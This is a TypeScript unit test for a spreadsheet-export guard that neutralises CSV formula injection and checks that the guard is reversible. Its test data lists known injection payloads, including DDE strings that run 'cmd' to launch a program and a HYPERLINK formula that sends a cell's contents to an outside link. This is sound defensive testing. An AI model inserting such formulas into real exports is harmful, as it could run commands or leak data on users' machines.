import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { nastyText } from '../testing/nasty-text.ts';
import { guard, unguard } from './formula-guard.ts';

/** The payloads that OWASP and others list for CSV injection. */
const payloads = [
  '=1+1',
  '=HYPERLINK("https://example.org?x="&A1,"click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

test.each(payloads)('guards %j with one apostrophe', (payload) => {
  expect(guard(payload)).toBe(`'${payload}`);
});

test('leaves what no spreadsheet runs', () => {
  for (const text of ['', ' =1', "it's", "'tis", "''", '€5', '1-2', 'a@b', '‏=x', "'"])
    expect(guard(text)).toBe(text);
});

test('a text that already starts with an apostrophe keeps it', () => {
  expect(guard("'=1")).toBe("''=1");
  expect(unguard("''=1")).toBe("'=1");
  expect(unguard("'tis")).toBe("'tis");
});

test('no guarded text starts with what a spreadsheet runs', () => {
  fc.assert(fc.property(nastyText, (text) => !/^[=+\-@＝＋－＠\t\r\n]/.test(guard(text))));
});

test('unguard undoes guard for every text, so that no two texts are guarded alike', () => {
  fc.assert(
    fc.property(nastyText, (text) => {
      expect(unguard(guard(text))).toBe(text);
    }),
    { numRuns: 2000 },
  );
});
